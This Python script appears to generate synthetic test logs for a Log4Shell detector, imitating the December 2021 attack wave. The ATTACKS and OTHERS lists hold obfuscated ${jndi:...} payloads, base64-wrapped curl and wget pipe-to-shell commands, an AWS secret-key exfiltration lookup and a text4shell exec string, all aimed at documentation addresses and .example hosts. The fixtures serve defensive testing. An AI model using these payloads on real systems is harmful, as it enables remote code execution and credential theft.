#!/usr/bin/env python3
"""logs_make_samples.py -- regenerates samples/, the bundled sample logs of defuse
(`python3 tests/e2e/logs_make_samples.py`).

Deterministic (fixed seed): running it again gives the same files.  The logs
are invented: addresses come from the documentation ranges (RFC 5737:
192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24; RFC 3849: 2001:db8::/32) and
callback hosts are under .example, so nothing here points at a real system.
They imitate the December 2021 Log4Shell wave: a quiet day, then from
2021-12-10 ~13:00 UTC a spike of obfuscated ${jndi:...} probes in URIs,
User-Agents and form fields, mixed with ordinary traffic that includes
legitimate ${...} templates (which must not be reported as jndi).

  access.log        nginx/apache combined log, 2021-12-10 (the spike)
  access.log.1.gz   the rotated log of 2021-12-09 (gzip; two early probes)
  app.log           a Java service's log4j2 PatternLayout log
  events.jsonl      JSON Lines from an API gateway (remote_addr, @timestamp)
  auth.log          sshd via rsyslog (high-precision ISO 8601 timestamps)
                    with payloads as user names
"""
import base64
import gzip
import io
import json
import os
import random

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "samples")
rnd = random.Random(20211210)

def b64(s):
    return base64.b64encode(s.encode()).decode()

CMD1 = b64("curl -s http://198.51.100.23:8080/x.sh | sh")
CMD2 = b64("wget -q -O- http://203.0.113.77/lh.sh|bash")

# Payloads seen in the wave (rewritten to documentation hosts).
ATTACKS = [
    "${jndi:ldap://198.51.100.23:1389/a}",
    "${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/" + CMD1 + "}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://callback.oast.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.77:1099/obj}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.77:1389/TomcatBypass/Command/Base64/" + CMD2 + "}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.exfil.c2.example/k}",
    "${jndi:dns://${sys:java.version}.${hostName}.probe.scanner.example}",
    "${jndi:ldap://127.0.0.1#evil.c2.example:1389/bypass}",
    "${${lower:J}${lower:N}${lower:D}${upper:\u0131}:ldap://x.c2.example/d}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://date.c2.example/g}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://k8s.c2.example/i}",
    "${jndi:rmi://198.51.100.23:1099/Exploit}",
]
# Recon probes, harmless shapes and text4shell.
OTHERS = [
    "${env:USER}",
    "${java:version}",
    "$${jndi:ldap://escaped.c2.example/f}",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "${base64:JHtqbmRpOmxkYXA6Ly9iNjQuYzIuZXhhbXBsZS9hfQ==}",
]
# Encoded forms (the transport encodings the detector undoes).
def pct(s):
    return "".join("%%%02X" % ord(c) if c in "${}:/" else c for c in s)

BENIGN_PATHS = [
    "/", "/index.html", "/css/site.css", "/js/app.js", "/img/logo.png", "/favicon.ico",
    "/api/v1/items?page=2", "/api/v1/items/4711", "/login", "/search?q=winter+boots",
    "/blog/2021/12/holiday-hours", "/robots.txt", "/sitemap.xml", "/api/v1/cart",
]
# Legitimate ${...} in ordinary traffic (templating, docs, shell snippets).
BENIGN_TEMPLATES = [
    "/api/v1/render?tpl=Hello%20${user.firstName}",
    "/docs/config?example=${HOME}/.config/app.yml",
    "/grafana/d/abc?var-host=${__value.raw}",
    "/search?q=%24%7Bproject.version%7D+maven",
    "/api/v1/mail/preview?subject=Order%20${order.id}%20shipped",
]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.93 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 15_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/7.79.1",
    "Googlebot/2.1 (+http://www.google.com/bot.html)",
]
CLIENTS = ["192.0.2.%d" % i for i in (10, 11, 24, 37, 58, 99, 142, 201)]
ATTACKERS = ["198.51.100.23", "203.0.113.77", "203.0.113.5", "198.51.100.140", "2001:db8:4::17"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

def clf_time(day, secs):
    h, m, s = secs // 3600, secs // 60 % 60, secs % 60
    return "%02d/Dec/2021:%02d:%02d:%02d +0000" % (day, h, m, s)

def access_line(ip, day, secs, method, path, status, size, ref, ua):
    return '%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"\n' % (
        ip, clf_time(day, secs), method, path, status, size, ref, ua)

def attack_line(day, secs):
    ip = rnd.choice(ATTACKERS)
    p = rnd.choice(ATTACKS + ATTACKS + OTHERS)
    where = rnd.choice(["ua", "path", "pct", "ref"])
    if where == "ua":
        return access_line(ip, day, secs, "GET", "/", 200, 612, "-", p)
    if where == "ref":
        return access_line(ip, day, secs, "GET", "/login", 200, 1840, p, rnd.choice(UAS))
    if where == "pct":
        return access_line(ip, day, secs, "GET", "/?x=" + pct(p), 400, 157, "-", "Mozilla/5.0 zgrab/0.x")
    return access_line(ip, day, secs, "GET", "/" + p.replace(" ", "%20"), 404, 153, "-", "python-requests/2.26.0")

def benign_line(day, secs):
    ip = rnd.choice(CLIENTS)
    if rnd.random() < 0.06:
        path = rnd.choice(BENIGN_TEMPLATES)
    else:
        path = rnd.choice(BENIGN_PATHS)
    method = "POST" if path in ("/login", "/api/v1/cart") else "GET"
    return access_line(ip, day, secs, method, path, rnd.choice([200, 200, 200, 304, 302]),
                       rnd.randint(120, 48000), "https://shop.example/", rnd.choice(UAS))

def day_log(day, n_benign, spike_from, n_attacks):
    events = []
    for _ in range(n_benign):
        events.append((rnd.randint(0, 86399), False))
    for _ in range(n_attacks):
        # the spike: most attempts in the first hours after spike_from
        t = spike_from + int(abs(rnd.gauss(0, 3600 * 2.5)))
        events.append((min(t, 86399), True))
    events.sort()
    return "".join(attack_line(day, t) if a else benign_line(day, t) for t, a in events)

def write(name, text):
    with open(os.path.join(HERE, name), "w", encoding="utf-8", newline="\n") as f:
        f.write(text)

def main():
    write("access.log", day_log(10, 240, 13 * 3600, 70))
    rotated = day_log(9, 150, 22 * 3600, 2)
    buf = io.BytesIO()
    with gzip.GzipFile(filename="access.log.1", mode="wb", fileobj=buf, mtime=1639094400) as g:
        g.write(rotated.encode())
    with open(os.path.join(HERE, "access.log.1.gz"), "wb") as f:
        f.write(buf.getvalue())

    # log4j2 PatternLayout "%d{yyyy-MM-dd HH:mm:ss,SSS} %-5level [%t] %c{1} - %msg%n"
    lines = []
    t = 10 * 3600
    users = ["alice", "bob", "carol", "dave", "erin"]
    for i in range(110):
        t += rnd.randint(20, 700)
        stamp = "2021-12-10 %02d:%02d:%02d,%03d" % (t // 3600 % 24, t // 60 % 60, t % 60, rnd.randint(0, 999))
        thread = "http-nio-8080-exec-%d" % rnd.randint(1, 10)
        if t > 13 * 3600 and rnd.random() < 0.22:
            p = rnd.choice(ATTACKS + OTHERS)
            msg = rnd.choice([
                "WARN  [%s] LoginController - Failed login for user '%s' from %s" % (thread, p, rnd.choice(ATTACKERS)),
                "INFO  [%s] SearchService - query=%s results=0" % (thread, p),
                "ERROR [%s] ApiVersionFilter - unsupported X-Api-Version: %s" % (thread, p),
            ])
        else:
            msg = rnd.choice([
                "INFO  [%s] LoginController - User %s logged in from %s" % (thread, rnd.choice(users), rnd.choice(CLIENTS)),
                "INFO  [%s] OrderService - Order %d created, total=%.2f EUR" % (thread, rnd.randint(10000, 99999), rnd.random() * 300),
                "DEBUG [%s] CacheManager - evicted %d entries" % (thread, rnd.randint(1, 500)),
                "WARN  [%s] ConfigLoader - property ${db.pool.size} not set, using default 10" % thread,
                "INFO  [%s] MailService - template 'Order ${order.id} shipped' rendered" % thread,
            ])
        lines.append("%s %s\n" % (stamp, msg))
    write("app.log", "".join(lines))

    # JSON Lines from an API gateway
    out = []
    t = 12 * 3600
    for i in range(70):
        t += rnd.randint(30, 400)
        stamp = "2021-12-10T%02d:%02d:%02d.%03dZ" % (t // 3600 % 24, t // 60 % 60, t % 60, rnd.randint(0, 999))
        if t > 13 * 3600 and rnd.random() < 0.3:
            p = rnd.choice(ATTACKS)
            rec = {"@timestamp": stamp, "remote_addr": rnd.choice(ATTACKERS), "method": "POST",
                   "uri": "/api/v1/login", "status": 401,
                   "headers": {"x-api-version": p, "user-agent": "Go-http-client/1.1"}}
        else:
            rec = {"@timestamp": stamp, "remote_addr": rnd.choice(CLIENTS), "method": "GET",
                   "uri": rnd.choice(BENIGN_PATHS), "status": 200,
                   "headers": {"user-agent": rnd.choice(UAS)}}
        out.append(json.dumps(rec, ensure_ascii=False) + "\n")
    write("events.jsonl", "".join(out))

    # sshd auth.log: user names are attacker-controlled and get logged
    out = []
    t = 11 * 3600
    for i in range(60):
        t += rnd.randint(60, 900)
        stamp = "2021-12-10T%02d:%02d:%02d.%06d+00:00" % (t // 3600 % 24, t // 60 % 60, t % 60, rnd.randint(0, 999999))
        pid = rnd.randint(1000, 30000)
        if t > 13 * 3600 and rnd.random() < 0.25:
            ip = rnd.choice(ATTACKERS)
            user = rnd.choice(ATTACKS[:6])
            out.append("%s bastion sshd[%d]: Invalid user %s from %s port %d\n" % (stamp, pid, user, ip, rnd.randint(30000, 65000)))
        else:
            ip = rnd.choice(CLIENTS)
            out.append("%s bastion sshd[%d]: Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s\n" % (
                stamp, pid, rnd.choice(users), ip, rnd.randint(30000, 65000), b64(str(rnd.random()))[:43]))
    write("auth.log", "".join(out))

if __name__ == "__main__":
    main()
